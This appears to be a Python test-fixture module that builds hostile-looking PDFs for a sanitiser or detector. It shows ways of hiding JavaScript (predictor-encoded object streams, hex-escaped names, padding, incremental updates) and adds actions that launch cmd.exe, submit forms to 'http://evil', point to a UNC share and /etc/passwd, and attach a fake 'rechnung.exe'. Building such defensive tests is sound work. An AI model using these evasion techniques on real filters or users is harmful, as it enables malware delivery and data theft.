"""PDFs that do something, each in a way of hiding it; byte by byte."""

from __future__ import annotations

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.files.makers import pdf, stream

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>"


def packed(plain: bytes, about: bytes = b"", data: bytes | None = None) -> bytes:
    """A PDF 1.5 whose catalogue, object 5, lies in an object stream, with a cross-reference stream."""
    parts = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        4: stream(b"BT ET"),
        6: b"<< /Type /ObjStm /N 1 /First 4 /Length %d %s >>\nstream\n%s\nendstream" % (len(data or plain), about, data or plain),
    }
    out, places = b"%PDF-1.5\n", {}
    for number, part in parts.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    at, rows = len(out), b"\0\0\0\0\0\xff"
    for number in range(1, 8):
        row = (2, 6, 0) if number == 5 else (1, at, 0) if number == 7 else (1, places[number], 0) if number in places else (0, 0, 0)
        rows += bytes([row[0]]) + row[1].to_bytes(4, "big") + bytes([row[2]])
    table = b"<< /Type /XRef /Size 8 /W [1 4 1] /Root 5 0 R /Length %d >>\nstream\n%s\nendstream" % (len(rows), rows)
    return out + b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, at)


def predicted() -> bytes:
    """In an object stream whose bytes are differences (PNG predictor): no name stands in it as it is written."""
    plain = b"5 0 " + CATALOGUE
    plain += b" " * (-len(plain) % 16)
    rows = b""
    for at in range(0, len(plain), 16):
        row = plain[at : at + 16]
        rows += b"\x01" + bytes((row[n] - (row[n - 1] if n else 0)) % 256 for n in range(16))
    squeezed = zlib.compress(rows)
    return packed(b"", b"/Filter /FlateDecode /DecodeParms << /Predictor 11 /Columns 16 >>", squeezed)


def commented() -> bytes:
    """Between two comments that look like the edges of a stream."""
    whole = pdf(tail=b"/OpenAction " + JS)
    head = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b">>"
    return whole.replace(b"1 0 obj\n" + head, b"1 0 obj % stream\n" + head + b"% endstream")


def far() -> bytes:
    """Behind 300 KB of nothing in an object stream."""
    plain = b"5 0 " + b" " * 300_000 + CATALOGUE
    return packed(b"", b"/Filter /FlateDecode", zlib.compress(plain))


def hexed() -> bytes:
    """Names spelled in numbers, in an object stream wrapped twice."""
    plain = b"5 0 << /Type /Catalog /Pages 2 0 R /Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"
    return packed(b"", b"/Filter [/ASCIIHexDecode /FlateDecode]", zlib.compress(plain).hex().encode() + b">")


def tree() -> bytes:
    """In the tree of named scripts, three levels down."""
    return made(
        lambda paper: paper.Root.__setitem__(
            "/Names",
            Dictionary(
                JavaScript=Dictionary(
                    Kids=Array(
                        [
                            paper.make_indirect(
                                Dictionary(
                                    Names=Array([String("a"), paper.make_indirect(_script(paper))]),
                                    Limits=Array([String("a"), String("a")]),
                                )
                            )
                        ]
                    )
                )
            ),
        )
    )


def added() -> bytes:
    """Added later, behind the end of a harmless one."""
    first = pdf()
    at = len(first)
    second = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>\nendobj\n" % JS
    before = first.rindex(b"xref\n0")
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        at,
        before,
        at + len(second),
    )
    return first + second + table


def boxed(act: Dictionary) -> bytes:
    """On a box of the page that reacts to a tap, to the page's opening, and to being seen."""

    def work(paper: Pdf) -> None:
        box = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 200, 200], A=act, AA=Dictionary(E=act, PO=act))
        paper.pages[0].obj.Annots = Array([paper.make_indirect(box)])
        paper.pages[0].obj.AA = Dictionary(O=act)

    return made(work)


def form() -> bytes:
    """A form: a script as it is calculated, one that sends it away, the whole again as XFA; its field shows 林志豪 to the eye."""

    def work(paper: Pdf) -> None:
        look = Stream(paper, b"BT /F1 12 Tf 10 10 Td (LIN) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 100, 20])
        look.Resources = Dictionary(Font=Dictionary(F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)))
        field = paper.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("name"),
                V=String("LIN"),
                Rect=[20, 20, 120, 40],
                F=4,
                AP=Dictionary(N=look),
                AA=Dictionary(K=_script(paper), C=_script(paper)),
                A=Dictionary(S=Name.SubmitForm, F=String("http://evil")),
            )
        )
        paper.pages[0].obj.Annots = Array([field])
        paper.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), XFA=Stream(paper, b"<xdp/>"))

    return made(work)


def carrying() -> bytes:
    """With a program attached, as the catalogue's file and as a pin on the page."""

    def work(paper: Pdf) -> None:
        paper.attachments["rechnung.exe"] = b"MZ" + b"\0" * 200
        spec = paper.Root.Names.EmbeddedFiles.Names[1]
        pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=spec)
        paper.pages[0].obj.Annots = Array([paper.make_indirect(pin)])
        paper.pages[0].obj.AF = Array([spec])

    return made(work)


def elsewhere() -> bytes:
    """A drawing whose bytes lie in another file, one that is a program for printers, one that refers to another paper."""

    def work(paper: Pdf) -> None:
        away = Stream(
            paper, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], F=String("/etc/passwd"), FFilter=Name.FlateDecode
        )
        program = Stream(paper, b"systemdict /quit get exec", Type=Name.XObject, Subtype=Name.PS)
        other = Stream(paper, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=Dictionary(F=String("http://evil"), Page=0))
        other.Metadata, other.PieceInfo = Stream(paper, b"<x/>"), Dictionary(X=Dictionary(Private=_script(paper)))
        paper.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=away, B=program, C=other))

    return made(work)


def player() -> bytes:
    """A film and a three-dimensional model with a script."""

    def work(paper: Pdf) -> None:
        rich = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9], RichMediaContent=Dictionary(Assets=Dictionary()))
        model = Dictionary(Type=Name.Annot, Subtype=Name("/3D"), Rect=[0, 0, 9, 9])
        model["/3DD"] = Stream(paper, b"U3D", Type=Name("/3D"), OnInstantiate=Stream(paper, b"app.alert(1)"))
        paper.pages[0].obj.Annots = Array([paper.make_indirect(rich), paper.make_indirect(model)])

    return made(work)


def made(work) -> bytes:
    """The plain PDF after `work(paper)`."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as paper:
        work(paper)
        paper.save(out)
    return out.getvalue()


def _script(_paper: Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


ACTS = {
    "script": Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    "launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
    "address": Dictionary(S=Name.URI, URI=String("http://evil")),
    "send": Dictionary(S=Name.SubmitForm, F=String("http://evil")),
    "import": Dictionary(S=Name.ImportData, F=String("x.fdf")),
    "remote": Dictionary(S=Name.GoToR, F=String("\\\\evil\\x.pdf"), D=Array([0, Name.Fit])),
    "inner": Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x"))),
    "chain": Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(S=Name.JavaScript, JS=String("x"))])),
}

# Three that passed the search by pattern this replaced, then the rest.
HOSTILE = {
    "predicted": predicted,
    "commented": commented,
    "far": far,
    "hexed": hexed,
    "tree": tree,
    "added": added,
    "form": form,
    "carrying": carrying,
    "elsewhere": elsewhere,
    "player": player,
    "opening": lambda: pdf(tail=b"/OpenAction " + JS),
    "closing": lambda: pdf(JS, tail=b"/AA << /WC 5 0 R /WS 5 0 R >>"),
    "spelled": lambda: pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", tail=b"/OpenAction 5 0 R"),
    **{f"box {name}": (lambda act=act: boxed(act)) for name, act in ACTS.items()},
}
